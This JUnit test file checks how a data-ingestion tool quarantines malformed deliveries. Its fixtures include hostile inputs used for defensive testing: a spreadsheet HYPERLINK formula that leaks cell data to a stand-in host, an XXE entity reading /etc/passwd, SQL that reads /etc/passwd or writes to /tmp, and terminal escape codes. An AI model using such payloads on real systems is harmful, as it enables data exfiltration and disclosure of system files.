package io.tallyhouse.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.tallyhouse.lake.journal.WarehouseLock;
import io.tallyhouse.terminal.Exit;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** One night over files as people really deliver them: every fault is told with its place and what to do, and costs nothing else. */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BadInputTest {
    private static final String HEAD = "team_id,name,function,region,go_live_at,recorded_at\n";
    private static final String FORMULA = "=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Team\"\")";
    private static final String PROMPT = """
            {"prompt_id":"%s","attempt":1,"at":"2026-03-09T19:13:53Z","recorded_at":"2026-03-09T19:15:10Z","user_id":"P1",\
            "role":"frontline_ops","llm_model":"m","decision":"accepted","exception_flag":false,"channel":"governed","text":"Why?"}
            """;
    private static final String LOG = """
            <?xml version="1.0" encoding="UTF-8"?>
            %s<log xes.version="1.0"><trace><string key="concept:name" value="c1"/>
            <event><string key="concept:name" value="%s"/>%s</event></trace></log>
            """;
    private static final String TIME = "<date key=\"time:timestamp\" value=\"2026-01-01T00:00:00Z\"/>";

    @TempDir
    static Path folder;

    private static SmallHouse house;
    private static String night;

    @BeforeAll
    static void deliver() throws IOException {
        teams("good.csv", HEAD + team("a", "Alpha").replace(",,", ",2026-02-01T00:00:00Z,") + team("b", "Beta"));
        byte[] whole = gzip(HEAD
                + Stream.iterate(1, i -> i + 1)
                        .limit(500)
                        .map(i -> team("g" + i, "G" + i * 7919))
                        .reduce("", String::concat));
        file("people/teams/cut.csv.gz", Arrays.copyOf(whole, whole.length * 2 / 3));
        teams("header.csv", HEAD.replace("name", "nmae") + team("h", "Eta"));
        teams("doubled.csv", HEAD.replace("name", "name,name") + team("d", "Delta,Delta"));
        teams("joined.csv", HEAD + team("j", "Iota") + HEAD + team("k", "Kappa"));
        file("people/teams/latin.csv", (HEAD + team("l", "Zürich")).getBytes(Charset.forName("ISO-8859-1")));
        teams("zoneless.csv", HEAD + team("z", "Zeta").replace("Z\n", "\n"));
        teams("formula.csv", HEAD + team("f", '"' + FORMULA + '"') + team("e", "\u001b[31mred"));
        text(
                "prompts/prompt_log/half.jsonl",
                PROMPT.formatted("q1")
                        + PROMPT.formatted("q2")
                        + PROMPT.formatted("q3").substring(0, 120));
        text("eventlog/one/fine.xes", LOG.formatted("", "A", TIME));
        text("eventlog/one/dtd.xes", LOG.formatted("<!DOCTYPE log [<!ELEMENT log ANY>]>\n", "A", TIME));
        text(
                "eventlog/one/entity.xes",
                LOG.formatted("<!DOCTYPE log [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n", "&e;", TIME));
        text("eventlog/one/timeless.xes", LOG.formatted("", "A", ""));
        text("people/team/misplaced.csv", HEAD + team("m", "My"));
        house = new SmallHouse(folder);
        night = house.expect(Exit.OK, "nightly").err();
    }

    private static String team(String id, String name) {
        return id + "," + name + ",Support,EU,,2026-01-01T00:00:00Z\n";
    }

    private static void teams(String file, String text) throws IOException {
        text("people/teams/" + file, text);
    }

    private static void text(String file, String text) throws IOException {
        file(file, text.getBytes(StandardCharsets.UTF_8));
    }

    private static void file(String file, byte[] bytes) throws IOException {
        Path target = folder.resolve("landing").resolve(file);
        Files.createDirectories(target.getParent());
        Files.write(target, bytes);
    }

    private static byte[] gzip(String text) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }

    private static JsonNode delivery(String file) throws IOException {
        for (JsonNode delivery : house.json("status").path("deliveries")) {
            if (delivery.path("file").asText().equals(file)) {
                return delivery;
            }
        }
        throw new AssertionError("status does not know " + file);
    }

    /** The only entry of a delivery in quarantine. */
    private static JsonNode quarantined(JsonNode delivery) throws IOException {
        JsonNode entries = house.json("quarantine", "show", delivery.path("id").asText());
        assertThat(entries).hasSize(1);
        return entries.get(0);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            people/teams/cut.csv.gz   | truncated       | at compressed byte     | the gzip stream ends early. Deliver the whole file again
            people/teams/header.csv   | unknown_column  | at line 1 (header)     | unknown column "nmae"; missing column "name". Export the columns of the contract people/teams
            people/teams/doubled.csv  | repeated_column | at line 1 (header)     | column "name" stands twice. Export the columns of the contract people/teams
            people/teams/latin.csv    | wrong_encoding  | at byte 55 (line 2)    | byte 0xFC is not UTF-8. Save it as UTF-8
            eventlog/one/dtd.xes      | dtd_refused     | at line 2, column 16   | a document type definition (DOCTYPE) is refused
            eventlog/one/entity.xes   | dtd_refused     | at line 2, column 16   | deliver the file without it. Export the log again
            eventlog/one/timeless.xes | no_timestamps   | at line 3              | 1 of 1 events have no time:timestamp. Export it with times
            """)
    @Order(1)
    void aFileIsRefusedWhole(String file, String reason, String place, String why) throws IOException {
        JsonNode delivery = delivery(file);
        assertThat(delivery.path("status").asText()).isEqualTo("refused");
        assertThat(delivery.path("message").asText())
                .startsWith("Cannot read " + file + " " + place)
                .contains(why);
        JsonNode entry = quarantined(delivery);
        assertThat(entry.path("reason").asText()).isEqualTo(reason);
        assertThat(entry.path("whole_file").asBoolean()).isTrue();
        assertThat(house.run("status").out()).contains(delivery.path("message").asText());
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            prompts/prompt_log/half.jsonl | 3 | 2 | truncated       | 3 | Invalid line: the file ends in the middle of it; deliver the file again once it is written
            people/teams/joined.csv       | 3 | 2 | repeated_header | 3 | Invalid record: the header stands here again, as where files were joined; the records after it are read
            people/teams/zoneless.csv     | 1 | 0 | zoneless_time   | 2 | Invalid recorded_at "2026-01-01T00:00:00": the time has no offset and no zone is configured; set zone for dataset people/teams in tallyhouse.yaml
            """)
    @Order(1)
    void aRecordIsQuarantinedAndTheOthersAreTaken(
            String file, long seen, long accepted, String reason, long line, String message) throws IOException {
        JsonNode delivery = delivery(file);
        assertThat(delivery.path("status").asText()).isEqualTo("ingested");
        assertThat(delivery.path("seen").asLong()).isEqualTo(seen);
        assertThat(delivery.path("accepted").asLong()).isEqualTo(accepted);
        assertThat(delivery.path("quarantined").asLong()).isEqualTo(1);
        JsonNode entry = quarantined(delivery);
        assertThat(entry.path("reason").asText()).isEqualTo(reason);
        assertThat(entry.path("line").asLong()).isEqualTo(line);
        assertThat(entry.path("message").asText()).isEqualTo(message);
    }

    @Test
    @Order(1)
    void theNightGoesOnAndEveryFileIsKnown() throws IOException {
        assertThat(night)
                .contains(
                        "Cannot place people/team/misplaced.csv: no dataset people/team; did you mean \"people/teams\"?")
                .contains("7 deliveries refused whole; see why with: tallyhouse quarantine list")
                .contains("groups to " + folder.resolve("warehouse/marts.duckdb"));
        JsonNode status = house.json("status");
        assertThat(status.path("deliveries_by_status").path("refused").asLong()).isEqualTo(7);
        assertThat(status.path("deliveries_by_status").path("ingested").asLong())
                .isEqualTo(6);
        assertThat(house.run("status").out()).contains("Cannot place people/team/misplaced.csv");
        assertThat(house.json("query", "SELECT team FROM dim_team ORDER BY team")
                        .findValuesAsText("team"))
                .containsExactly("a", "b", "e", "f", "j", "k");
    }

    @Test
    @Order(1)
    void aFormulaStaysATextEverywhere() throws IOException {
        String text = FORMULA.replace("\"\"", "\"");
        String select = "SELECT name FROM dim_team WHERE team IN ('e', 'f') ORDER BY team";
        assertThat(house.json("query", select).findValuesAsText("name")).containsExactly("\u001b[31mred", text);
        assertThat(house.expect(Exit.OK, "query", select).out()).contains(text).doesNotContain("\u001b");
        try (Stream<Path> pages = Files.walk(folder.resolve("warehouse/pages"))) {
            for (Path page : pages.filter(p -> p.toString().endsWith(".html")).toList()) {
                assertThat(Files.readString(page))
                        .doesNotContain("=HYPERLINK(\"")
                        .doesNotContain("\u001b");
            }
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            SELECT * FROM read_csv('/etc/passwd')       | it reaches outside the marts, and files and network are closed
            SELECT * FROM read_text('/etc/passwd')      | it reaches outside the marts, and files and network are closed
            SELECT * FROM '/etc/passwd'                 | it reaches outside the marts, and files and network are closed
            COPY (SELECT 1) TO '/tmp/tallyhouse-no.csv' | it does more than select; the marts are read only
            """)
    @Order(1)
    void aQueryReachesNoFile(String sql, String why) {
        CommandLineRun query = house.expect(Exit.USAGE, "query", sql);
        assertThat(query.out()).isBlank();
        assertThat(query.err())
                .contains("Cannot run the query: " + why)
                .contains("tallyhouse query \"SHOW TABLES\"")
                .doesNotContain("root:");
    }

    @Test
    @Order(1)
    void theSecondRunSaysWhoIsFirst() {
        Instant since = Instant.parse("2026-03-31T02:00:00Z");
        try (WarehouseLock first = WarehouseLock.take(folder.resolve("warehouse"), "tallyhouse nightly", since)) {
            assertThat(house.expect(Exit.LOCKED, "nightly").err())
                    .contains(
                            "it is held by process " + ProcessHandle.current().pid()
                                    + ", tallyhouse nightly, since 2026-03-31T02:00:00Z; wait until that run has ended and try again");
            assertThat(house.run("status").out()).contains("Held now by process ");
        }
    }

    @Test
    @Order(1)
    void aBaselineEndsBeforeTheGoLive() {
        assertThat(house.expect(
                                Exit.USAGE,
                                "baseline",
                                "freeze",
                                "--function",
                                "Support",
                                "--as",
                                "maker@example.com",
                                "--to",
                                "2026-02-02T00:00:00Z")
                        .err())
                .contains("Cannot freeze a baseline of Support up to 2026-02-02T00:00:00Z: it overlaps the go-live at"
                        + " 2026-02-01T00:00:00Z; end the window there, with --to 2026-02-01T00:00:00Z");
        assertThat(house.expect(Exit.OK, "baseline", "list").out()).isEmpty();
    }

    @Test
    @Order(2)
    void aMendedFileIsTakenUnderItsOldName() throws IOException {
        teams("latin.csv", HEAD + team("l", "Zürich"));
        assertThat(house.expect(Exit.OK, "land").err()).contains("1 new deliveries, 12 known");
        house.expect(Exit.OK, "ingest");
        JsonNode states = house.json("status").path("deliveries");
        assertThat(states).hasSize(14);
        assertThat(states.findValuesAsText("file"))
                .filteredOn("people/teams/latin.csv"::equals)
                .hasSize(2);
        assertThat(states.path(13).path("status").asText()).isEqualTo("ingested");
        assertThat(states.path(13).path("accepted").asLong()).isEqualTo(1);
    }

    @Test
    @Order(3)
    void aMistypedKeyOfThePlaybookStopsTheNightBeforeItBegins() throws IOException {
        house.expect(Exit.OK, "init", "--dir", folder.resolve("config").toString());
        Path playbook = folder.resolve("config/enablement_playbook.yaml");
        List<String> lines = Files.readAllLines(playbook).stream()
                .map(l -> l.replace("confidence_threshold", "confidence_treshold"))
                .toList();
        Files.write(playbook, lines);
        int line = 0;
        while (!lines.get(line).contains("confidence_treshold")) {
            line++;
        }
        assertThat(house.expect(Exit.USAGE, "nightly").err())
                .contains(playbook + ":" + (line + 1) + ":" + (lines.get(line).indexOf("confidence_treshold") + 1))
                .contains("confidence_treshold")
                .contains("did you mean \"confidence_threshold\"?");
    }
}
